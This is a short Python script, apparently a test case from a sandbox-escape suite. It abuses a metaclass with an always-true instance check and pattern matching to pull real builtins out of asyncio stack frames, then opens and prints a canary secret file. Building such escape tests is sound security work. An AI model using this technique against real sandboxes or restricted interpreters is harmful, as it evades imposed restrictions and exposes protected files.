# source: own
# effect: secret

import asyncio


class Anything(type):
    def __instancecheck__(cls, value):
        return True


class Frame(metaclass=Anything):
    __match_args__ = ("f_builtins",)


async def main():
    for frame in asyncio.current_task().get_stack():
        match frame:
            case Frame(builtin):
                print(builtin["open"]("/tmp/canary/secret").read())


asyncio.run(main())
